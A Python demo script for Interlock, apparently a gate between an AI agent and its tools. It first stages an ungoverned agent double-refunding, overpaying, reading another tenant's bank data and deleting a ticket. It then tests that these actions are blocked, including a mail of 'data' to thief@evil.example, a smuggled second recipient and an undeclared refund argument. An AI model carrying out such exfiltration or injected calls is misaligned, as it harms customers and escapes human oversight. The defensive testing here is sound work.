"""The story for `make demo`: what an agent did without Interlock, and what it does with it. Exits 0 only if every expectation held."""

import asyncio
import json
import logging
import shutil
import sys
import time

from rich.panel import Panel

from examples.acme import handbook
from examples.acme.bad_days import breaker, kill_switch, lost_answers, reconciled, storm_without
from examples.acme.interlocked import RELEASE, Interlocked, client
from examples.acme.telling import FOLDER, console, decision, expect, said, scene, shown, tell, until
from examples.acme.world import World


async def without(world):
    scene("Without Interlock: the agent holds the keys")
    url, key = world.url("payments"), world.tokens["ACME_PAYMENTS_TOKEN"]
    await world.execute("UPDATE trouble SET lost_answers = 1 WHERE service = 'payments'")
    async with client(url, key, "legacy") as payments:
        for attempt in (1, 2):
            console.print(f"   [cyan]agent →[/] refund A1 20.00, attempt {attempt}")
            try:
                await payments.call_tool("refund", {"order_id": "A1", "amount": "20.00", "currency": "EUR"})
            except Exception:  # noqa: BLE001  # the lost answer, in whatever shape the SDK reports it
                console.print("   [red]      ← the connection broke[/]")
        await payments.call_tool("refund", {"order_id": "A2", "amount": "9999.00", "currency": "EUR"})
    async with client(world.url("customers"), world.tokens["ACME_CUSTOMERS_TOKEN"], "legacy") as customers:
        record = await customers.call_tool("get", {"customer_id": 9})
    async with client(world.url("tickets"), world.tokens["ACME_TICKETS_TOKEN"], "legacy") as tickets:
        await tickets.call_tool("delete", {"ticket_id": 2})
    paid = await world.count("SELECT count(*) FROM refund WHERE order_id = 'A1'")
    expect.that(paid == 2, f"F6: the retried refund was paid {paid} times")
    high = await world.count("SELECT sum(amount) FROM refund WHERE order_id = 'A2'")
    expect.that(high == 9999, f"F5: a slip of the model paid {high} EUR back for an order of 300 EUR")
    expect.that("DE8937" in said(record), "F2: ana's agent read another tenant's customer, bank account included")
    gone = await world.count("SELECT count(*) FROM ticket WHERE id = 2")
    expect.that(gone == 0, "F5: a customer's ticket is gone for good")
    await storm_without(world)
    await handbook.without(world)
    await world.execute(
        "INSERT INTO ticket (id, subject, body) OVERRIDING SYSTEM VALUE VALUES (2, 'Where is my invoice?', 'Order A2.')"
    )


async def useful_work(bot, world):
    scene("With Interlock: useful work flows")
    names = [tool.name for tool in (await bot.list_tools()).tools]
    console.print(f"   the agent sees: {', '.join(names)}")
    expect.that("tickets.delete" not in names and "config.set" not in names, "it sees only what it may use here")
    found = await tell(bot, "tickets.search", words="parcel")
    expect.that(not found.is_error and "broken" in said(found), "it finds the ticket")
    await tell(bot, "tickets.comment", ticket_id=1, text="We are on it.")
    comments = await world.count("SELECT count(*) FROM comment WHERE ticket_id = 1")
    expect.that(comments == 1, "its comment is in the ticket")
    await tell(bot, "mail.send", to="nora@customers.example", subject="Your parcel", text="We are on it.")
    mails = await world.count("SELECT count(*) FROM mail WHERE recipient = 'nora@customers.example'")
    expect.that(mails == 1, "the mail arrived at a real SMTP server")


async def users_limits(bot, bos_bot):
    scene("The user's own limits bind the agent (F2)")
    seven = await tell(bot, "customers.get", customer_id=7)
    expect.that(not seven.is_error and "Nora" in said(seven), "customer 7 is of an account ana manages: yes")
    hidden = not any(secret in said(seven) for secret in ("NL91", "nora@", "555 0107"))
    expect.that(hidden, "her bank account, mail and phone were taken out, from the structure and from the text")
    eight = await tell(bot, "customers.get", customer_id=8)
    expect.that(decision(eight).get("code") == "user_not_permitted", "customer 8 is of another account: no")
    listed = await tell(bot, "customers.search", letters="u")
    expect.that("globex" not in said(listed).lower(), "another tenant's customers are not in the list")
    nine = await tell(bos_bot, "customers.get", customer_id=7)
    expect.that(decision(nine).get("code") == "user_not_permitted", "the same agent for a user of another tenant: no")


async def chain(bot, world):
    scene("Each step is allowed, the chain is reviewed (F3)")
    before = await world.count("SELECT count(*) FROM mail")
    told = await tell(bot, "mail.send", to="nora@customers.example", subject="Your record", text="As we have it on file.")
    waits = decision(told).get("outcome") == "needs_approval"
    expect.that(waits, "a mail that flowed before waits for a person, now that a customer's record was read")
    expect.that(await world.count("SELECT count(*) FROM mail") == before, "and nothing was sent")


async def denials(bot, ops, world):
    scene("What is not granted is denied, and says why")
    out = await tell(bot, "mail.send", to="thief@evil.example", subject="data", text="here it is")
    expect.that(decision(out).get("outcome") == "denied", "mail goes to customers only")
    two = await tell(bot, "mail.send", to="thief@evil.example,nora@customers.example", subject="data", text="here it is")
    expect.that(decision(two).get("outcome") == "invalid", "and to one at a time: a second recipient cannot be smuggled in")
    gone = await tell(ops, "tickets.delete", ticket_id=1)
    expect.that(decision(gone).get("question") == 7, "nothing is deleted in production, whoever asks")
    expect.that(await world.count("SELECT count(*) FROM ticket WHERE id = 1") == 1, "the ticket is still there")
    odd = await tell(bot, "payments.refund", order_id="A1", amount="20.00", currency="EUR", to_account="me")
    expect.that(decision(odd).get("outcome") == "invalid", "an argument nobody declared is refused")


async def limits(bot, world):
    scene("Limits stop, and people decide (F5)")
    ask = await tell(bot, "payments.refund", order_id="A4", amount="80.00", currency="EUR")
    expect.that(decision(ask).get("outcome") == "needs_approval", "80 EUR wait for a support lead")
    much = await tell(bot, "payments.refund", order_id="A4", amount="9999.00", currency="EUR")
    named = (decision(much).get("code"), decision(much).get("field")) == ("arguments_not_permitted", "amount")
    expect.that(named and "at most 200.00" in said(much), "9999 EUR are refused outright, with the limit named")
    expect.that(await world.count("SELECT count(*) FROM refund WHERE order_id = 'A4'") == 0, "nothing was paid for A4")
    return decision(ask)["approvals"][0]["id"]


async def approval(bot, interlock, world, waiting):
    scene("Somebody else approves, once, exactly that call (P6)")
    approve = ("approvals", "approve", waiting)
    (_, own), (_, no_role), (out, _) = await interlock.people(
        ("ana", *approve), ("oki", *approve), ("leo", "approvals", "show", waiting)
    )
    expect.that(own == 1, "ana, in whose name it would be done, cannot approve it")
    expect.that(no_role == 1, "nor can an operator: the rule asks for a support lead")
    shown(f"approvals show {waiting}", "leo", out)
    await interlock.people(("leo", *approve, "--note", "called the customer"))
    other = await tell(bot, "payments.refund", order_id="A4", amount="81.00", currency="EUR")
    expect.that(decision(other).get("outcome") == "needs_approval", "81 EUR are another call: they wait")
    done = await tell(bot, "payments.refund", order_id="A4", amount="80.00", currency="EUR")
    expect.that(not done.is_error, "leo has approved: the repeated call runs")
    again = await tell(bot, "payments.refund", order_id="A4", amount="80.00", currency="EUR")
    expect.that("interlock/replayed" in (again.meta or {}), "once more, it is answered from the record")
    paid = await world.count("SELECT count(*) FROM refund WHERE order_id = 'A4'")
    expect.that(paid == 1, f"A4 was paid back {paid} time")


def vendor_update(world):
    scene("A tool changes behind everybody's back")
    world.restart("mail", ACME_MAIL_SAYS="Send a mail, over SMTP. Adds the company's signature and a copy to the archive.")
    console.print("   the mail server's vendor ships an update: the tool says of itself that it does something else now")


async def governed_change(bot, interlock, world):
    scene("Administrators are governed too (O11)")
    budget = 'refunded-per-session: {sum: payments.refund.amount, per: session, limit: "60.00", ask: refunds}\n'
    changed = FOLDER / f"release-{time.time_ns()}"
    shutil.copytree(RELEASE, changed)
    (changed / "budgets.yaml").write_text(budget)
    ((out, _),) = await interlock.people(("pia", "release", "propose", str(changed)))
    shown("release propose", "pia", out)
    activate = ("release", "activate", out.split()[2], "--reason")
    (_, no_role), (_, own) = await interlock.people(("oki", *activate, "now"), ("pia", *activate, "now"))
    expect.that(no_role == 1, "an operator has no say in releases")
    expect.that(own == 1, "who proposed it does not activate it")
    ((out, _),) = await interlock.people(("sam", *activate, "agreed with finance"))
    shown("release activate", "sam", out)
    first = await tell(bot, "payments.refund", order_id="A5", amount="45.00", currency="EUR")
    expect.that(not first.is_error, "45 EUR fit into the new budget of the session")
    over = await tell(bot, "payments.refund", order_id="A6", amount="30.00", currency="EUR")
    expect.that(
        decision(over).get("code") == "over_budget_asked", "30 more do not: the cap stops it and asks a support lead (X5)"
    )
    asked = decision(over)["approvals"][0]["id"]
    (waits, _), (used, _) = await interlock.people(("leo", "approvals", "list"), ("oki", "budgets", "refunded-per-session"))
    shown("approvals list", "leo", waits)
    shown("budgets refunded-per-session", "oki", used)
    expect.that(asked in waits, "and finds the open question on their list")
    await interlock.people(("leo", "approvals", "approve", asked))
    lifted = await tell(bot, "payments.refund", order_id="A6", amount="30.00", currency="EUR")
    expect.that(not lifted.is_error, "who has the role lets this one call go beyond it")


async def quarantine(bot, interlock):
    scene("What changed upstream waits for its owner (I5)")
    told = await until(
        lambda: tell(bot, "mail.send", to="nora@customers.example", subject="a", text="b"),
        lambda told: decision(told).get("code") == "quarantined",
    )
    expect.that(decision(told).get("code") == "quarantined", "the changed tool is stopped, in every process")
    names = [tool.name for tool in (await bot.list_tools()).tools]
    expect.that("mail.send" not in names, "and the agent does not see it any more")
    accept = ("tools", "accept", "mail.send", "--reason", "talked to the vendor")
    (out, refused), (listed, _) = await interlock.people(("pat", *accept), ("pat", "tools", "list", "--json"))
    shown("tools accept mail.send", "pat", out)
    expect.that(refused == 1 and "archive" in out, "pat, of the platform team, is shown the difference first")
    held = [item["quarantine"] for item in json.loads(listed)["operations"] if item["quarantine"]]
    accept = (*accept, "--pin", held[0]["pin"])
    ((_, refused),) = await interlock.people(("sam", *accept))
    expect.that(refused == 1, "security may review, and does not own this tool: no")
    ((_, code),) = await interlock.people(("pat", *accept))
    expect.that(code == 0, "pat accepts exactly the listing that was looked at")
    sent = await tell(bot, "mail.send", to="nora@customers.example", subject="Your parcel", text="It is on its way.")
    expect.that(not sent.is_error, "mail flows again")


def record(interlock, session):
    scene("Why did it do that?")
    out, _ = interlock.person("trace", "show", session["session_id"], user="aud")
    lines = out.strip().splitlines()
    console.print("\n".join(f"   {line[:220]}" for line in lines), markup=False)
    story = "\n".join(lines)
    expect.that(
        "denied at question 3" in story and "needs approval: refunds" in story, "the trace tells which policy said what"
    )
    expect.that("NL91" not in story, "and does not tell what was taken out")
    interlock.run("audit", "checkpoint")
    report, code = interlock.run("audit", "verify")
    console.print(f"   {report.strip()}", markup=False)
    expect.that(code == 0, "the ledger is intact, by a verifier that shares no code with the writer")


async def story():
    shutil.rmtree(FOLDER / "state", ignore_errors=True)
    started = time.monotonic()
    world = World(FOLDER / f"world-{time.time_ns()}")
    await world.start()
    interlock = None
    try:
        await without(world)
        interlock = Interlocked(FOLDER / f"state-{time.time_ns()}", world)
        console.print(f"\n   interlock up → {interlock.ready['mcp']}")
        whose = (
            ("support-bot", "ana", "customer-support"),
            ("support-bot", "bo", "customer-support"),
            ("ops-bot", "oki", "operations"),
            ("support-bot", "eva", "customer-support"),
        )
        session, bos, operations, evas = await asyncio.gather(*(asyncio.to_thread(interlock.token, *who) for who in whose))
        await interlock.say("ana", session, "Look into the parcel and write to nora@customers.example about it, please.")
        async with (
            interlock.client(session["access_token"]) as bot,
            interlock.client(bos["access_token"], "legacy") as bos_bot,
            interlock.client(operations["access_token"]) as ops,
            interlock.client(evas["access_token"]) as evas_bot,
        ):
            await useful_work(bot, world)
            await denials(bot, ops, world)
            mail = await lost_answers(bot, world)
            waiting = await limits(bot, world)
            await approval(bot, interlock, world, waiting)
            await reconciled(bot, interlock, world, mail)
            await breaker(bot, interlock, world)
            vendor_update(world)
            await governed_change(bot, interlock, world)
            await quarantine(bot, interlock)
            await kill_switch(bot, interlock, world)
            await users_limits(bot, bos_bot)
            await chain(bot, world)
            await handbook.governed(evas_bot, interlock, world, evas)
        record(interlock, session)
    finally:
        if interlock is not None:
            interlock.stop()
        world.stop()
    return time.monotonic() - started


def main():
    console.print(Panel("[bold]Interlock[/]: the model proposes, the control plane decides, tools execute only through gates."))
    # What breaks on purpose is told by the story, not by the SDK.
    logging.getLogger("mcp").setLevel(logging.CRITICAL)
    seconds = asyncio.run(story())
    console.print()
    if expect.failed:
        console.print(f"[bold red]{len(expect.failed)} expectations failed:[/] {'; '.join(expect.failed)}")
        return 1
    console.print(f"[bold green]All {expect.held} expectations held[/], in {seconds:.0f} seconds.")
    return 0


if __name__ == "__main__":
    sys.exit(main())
